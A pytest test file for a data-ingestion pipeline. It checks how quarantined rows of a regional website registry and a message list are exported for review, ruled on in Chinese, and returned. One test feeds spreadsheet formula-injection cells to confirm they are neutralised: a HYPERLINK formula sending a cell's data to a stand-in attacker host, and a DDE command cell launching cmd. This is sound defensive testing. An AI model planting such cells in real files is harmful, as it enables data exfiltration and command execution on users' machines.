"""The way back from quarantine: corrected, approved or discarded; and of each row what became of it."""

from __future__ import annotations

import csv
import re
from datetime import date

import pytest

from inspection import registry
from inspection.declared.office import Source
from inspection.declared.office import load as load_office
from inspection.errors import GateStopped, InspectionError
from inspection.flow import returning
from inspection.registry import rulings
from inspection.text.cells import is_formula

OCT = [date(2023, 10, day) for day in range(1, 9)]
HEADER = "网站标识码,网站名称,首页网址,主办单位,行政区划代码,运行状态\n"
GOOD = "539900000{n},云州{n}网,http://s{n}.example/,甲局,539900,正常运行\n"
PAGE = "http://www.s1.example/index.html"  # that of the first site
SAME_PAGE = f"5399000008,云州八网,{PAGE},甲局,539901,正常运行\n"
BAD_CODE = "5.399E+09,云州九网,http://s9.example/,甲局,539900,正常运行\n"


@pytest.fixture
def office(tmp_path):
    """An office whose sites and messages come in a folder of the test."""
    sources = {name: Source(path=str(tmp_path / f"{name}.csv")) for name in ("sites", "messages")}
    return load_office("yunzhou-demo").model_copy(update={"sources": sources})


@pytest.fixture
def load(connection, office, tmp_path):
    def load(source, text, day):
        (tmp_path / f"{source}.csv").write_text(text)
        return registry.load(connection, office, source, office.sources[source], day)

    return load


def sites(*bad):
    return HEADER + "".join(GOOD.format(n=n) for n in range(1, 6)) + "".join(bad)


def states(connection):
    rows = connection.execute("select day, value, state, ended_on from ops.quarantine order by day, row_no, value")
    return [tuple(row.values()) for row in rows]


def in_force(connection):
    rows = connection.execute("select subject_id, region_code from mart.dim_subject where valid_to is null order by 1")
    return {row["subject_id"][-2:]: row["region_code"] for row in rows}


def ruled_file(connection, office, folder, source, **by_name):
    """What waits, written out and ruled on: name in the row → word, or (word, header, corrected cell)."""
    counts = dict(rulings.write_waiting(connection, office, folder))
    path = folder / f"{source}.csv"
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    assert counts[source] == len(rows)
    for row in rows:
        for name, ruling in by_name.items():
            if name in row.values():
                word, header, cell = ruling if isinstance(ruling, tuple) else (ruling, "处理", ruling)
                row |= {header: cell} | {"处理": word}
    with path.open("w", encoding="gbk", newline="") as file:
        writer = csv.DictWriter(file, rows[0])
        writer.writeheader()
        writer.writerows(rows)
    return path


def test_corrected_and_approved_rows_of_a_registry_come_in_and_stay_in(connection, office, load, tmp_path):
    load("sites", sites(SAME_PAGE, BAD_CODE), OCT[0])
    connection.commit()
    path = ruled_file(
        connection, office, tmp_path / "out", "sites",
        云州八网="按原样", 云州九网=("更正", "网站标识码", "5399000009"),
    )  # fmt: skip
    lines = returning.return_rows(connection, office, rulings.read_rulings(path), day=OCT[0], run_id="run")
    assert lines == ["sites: 7 read, 0 quarantined, 7 merged, 7 in force"]
    assert in_force(connection) == {"01": "539900", "02": "539900", "03": "539900", "04": "539900", "05": "539900"} | {
        "08": "539901",
        "09": "539900",
    }
    assert states(connection) == [(OCT[0], PAGE, "returned", OCT[0]), (OCT[0], "5.399E+09", "returned", OCT[0])]
    (counts,) = connection.execute(
        "select read_count, quarantined_count, merged_count, in_force_count, waiting_count, returned_count"
        " from mart.ingest_count"
    ).fetchall()
    assert tuple(counts.values()) == (7, 0, 7, 7, 0, 2)
    # the export of the next day has the same bad rows: the rulings hold
    batch = load("sites", sites(SAME_PAGE, BAD_CODE).replace("云州1网", "云州第一网"), OCT[1])
    assert (batch.quarantined, batch.in_force) == (0, 7)


def test_a_formula_of_a_strangers_file_is_inert_in_the_csv_and_comes_back_as_it_was(connection, office, load, tmp_path):
    names = ['=HYPERLINK("http://evil.example/?x="&B2)', "＝cmd|' /C calc'!A0", "@SUM(1)", "'=1", "+86", "-", "\t=1"]
    quoted = [name.replace('"', '""') for name in names]
    rows = [f'5.399E+0{n},"{name}",http://s{n}.example/,甲局,539900,正常运行\n' for n, name in enumerate(quoted)]
    load("sites", sites(*rows), OCT[0])
    connection.commit()
    assert dict(rulings.write_waiting(connection, office, tmp_path / "out")) == {"sites": len(names)}
    path = tmp_path / "out" / "sites.csv"
    with path.open(encoding="utf-8-sig", newline="") as file:
        waiting = list(csv.DictReader(file))
    assert sorted(row["网站名称"] for row in waiting) == sorted(f"'{name}" for name in names)
    assert not any(is_formula(cell) for row in waiting for cell in row.values())
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, waiting[0])
        writer.writeheader()
        writer.writerows(row | {"处理": "更正"} for row in waiting)
    ruled = rulings.read_rulings(path)["sites"]
    assert sorted(ruling.cells["网站名称"] for ruling in ruled.values()) == sorted(names)


def test_what_waits_is_written_out_with_reason_and_remedy_in_chinese(connection, office, load, tmp_path):
    load("sites", sites(SAME_PAGE, BAD_CODE), OCT[0])
    connection.commit()
    dict(rulings.write_waiting(connection, office, tmp_path))
    with (tmp_path / "sites.csv").open(encoding="utf-8-sig", newline="") as file:
        told = {row["网站名称"]: (row["原因"], row["建议"]) for row in csv.DictReader(file)}
    assert "的网址相同" in told["云州八网"][0] and "按原样" in told["云州八网"][1]
    assert "网站标识码 5.399E+09 " in told["云州九网"][0]
    assert re.findall(r"[A-Za-z]+ [a-z]+", " ".join(sum(told.values(), ()))) == []


def test_a_discarded_row_stays_out_and_is_asked_about_no_more(connection, office, load, tmp_path):
    load("sites", sites(BAD_CODE), OCT[0])
    connection.commit()
    path = ruled_file(connection, office, tmp_path / "out", "sites", 云州九网="不予收录")
    returning.return_rows(connection, office, rulings.read_rulings(path), day=OCT[0], run_id="run")
    assert states(connection) == [(OCT[0], "5.399E+09", "discarded", OCT[0])]
    batch = load("sites", sites(BAD_CODE).replace("云州1网", "云州第一网"), OCT[1])
    assert (batch.quarantined, batch.in_force) == (1, 5)
    assert list(rulings.write_waiting(connection, office, tmp_path / "again")) == []


def test_rows_of_a_list_come_back_without_their_file(connection, office, load, tmp_path):
    header = "渠道,留言编号,留言时间,网站标识码,办理状态\n"
    load("messages", header + "找错,m1,前天,,\n找错,m2,2023-10-02,5399,已转交\n找错,m3,2023-10-01,,\n", OCT[3])
    connection.commit()
    (tmp_path / "messages.csv").unlink()
    path = ruled_file(
        connection, office, tmp_path / "out", "messages",
        m1=("更正", "留言时间", "2023-10-02 09:00"), m2="按原样",
    )  # fmt: skip
    lines = returning.return_rows(connection, office, rulings.read_rulings(path), day=OCT[4], run_id="run")
    assert lines == ["messages: 2 returned, 0 discarded, 0 waiting"]
    rows = connection.execute(
        "select message_id, subject_id, deadline_basis from staging.message order by message_id"
    ).fetchall()
    by_rule = "unconfirmed_rule"
    assert [tuple(row.values()) for row in rows] == [
        ("m1", None, by_rule),
        ("m2", "site:5399", by_rule),
        ("m3", None, by_rule),
    ]
    assert {state for _, _, state, _ in states(connection)} == {"returned"}


def test_what_a_gate_does_not_let_through_is_not_let_in_by_approval(connection, office, load, tmp_path):
    load("messages", "渠道,留言编号,留言时间,办结时间\n找错,m1,2023-10-02,2023-10-01\n", OCT[3])
    connection.commit()
    path = ruled_file(connection, office, tmp_path / "out", "messages", m1="按原样")
    with pytest.raises(GateStopped, match="no message was closed before it was received"):
        returning.return_rows(connection, office, rulings.read_rulings(path), day=OCT[4], run_id="run")
    assert [state for _, _, state, _ in states(connection)] == ["waiting"]
    assert connection.execute("select count(*) as n from staging.message").fetchone()["n"] == 0


def test_a_correction_that_is_none_leaves_the_row_waiting(connection, office, load, tmp_path):
    load("messages", "渠道,留言编号,留言时间\n找错,m1,前天\n", OCT[3])
    connection.commit()
    for ruling in (("更正", "留言时间", "大前天"), "按原样"):  # a time cannot be taken as it is
        path = ruled_file(connection, office, tmp_path / "out", "messages", m1=ruling)
        (line,) = returning.return_rows(connection, office, rulings.read_rulings(path), day=OCT[4], run_id="run")
        assert line == "messages: 0 returned, 0 discarded, 1 waiting"
    assert [state for _, _, state, _ in states(connection)] == ["waiting"]


def test_of_every_row_it_is_known_what_became_of_it(connection, load):
    load("sites", sites(SAME_PAGE, BAD_CODE), OCT[0])
    load("sites", sites(SAME_PAGE, BAD_CODE, GOOD.format(n=6)), OCT[1])  # both again
    load("sites", sites(SAME_PAGE.replace("s1", "s8")), OCT[2])  # one put right, one no more sent
    assert states(connection) == [
        (OCT[0], PAGE, "repeated", OCT[1]),
        (OCT[0], "5.399E+09", "repeated", OCT[1]),
        (OCT[1], PAGE, "mended", OCT[2]),
        (OCT[1], "5.399E+09", "withdrawn", OCT[2]),
    ]


def test_an_approved_double_takes_the_place_of_the_first(connection, office, load, tmp_path):
    load("sites", sites(GOOD.format(n=1).replace("云州1网", "云州真一网")), OCT[0])
    connection.commit()
    path = ruled_file(connection, office, tmp_path / "out", "sites", 云州真一网="按原样")
    returning.return_rows(connection, office, rulings.read_rulings(path), day=OCT[0], run_id="run")
    names = connection.execute("select name from mart.dim_subject where subject_id = 'site:5399000001'").fetchall()
    assert [row["name"] for row in names] == ["云州真一网"]
    assert {state for _, _, state, _ in states(connection)} == {"returned", "discarded"}


def test_a_ruling_on_nothing_and_a_word_that_is_none_are_refused(connection, office, load, tmp_path):
    load("sites", sites(BAD_CODE), OCT[0])
    connection.commit()
    with pytest.raises(InspectionError, match="no row abc of sites is in quarantine"):
        returning.return_rows(connection, office, {"sites": rulings.named(approved=["abc"])}, day=OCT[0], run_id="run")
    path = ruled_file(connection, office, tmp_path / "out", "sites", 云州九网="也许")
    with pytest.raises(InspectionError, match="'也许' is no ruling"):
        rulings.read_rulings(path)
    assert connection.execute("select count(*) as n from ops.quarantine_ruling").fetchone()["n"] == 0


@pytest.mark.parametrize(
    ("row", "says"),
    [
        (",abc,sites", "no row has a ruling"),
        ("更正,abc,probe_log", "rows of probe_log cannot be ruled on"),
        (None, "there is no such file"),
    ],
)
def test_a_file_in_which_nobody_ruled_or_of_rows_that_only_their_log_brings_is_refused(tmp_path, row, says):
    path = tmp_path / "ruled.csv"
    if row:
        path.write_text(f"处理,行标识,来源,文件,行号,原因,建议,name\n{row},a.csv,2,x,y,z\n", "utf-8")
    with pytest.raises(InspectionError, match=says):
        rulings.read_rulings(path)
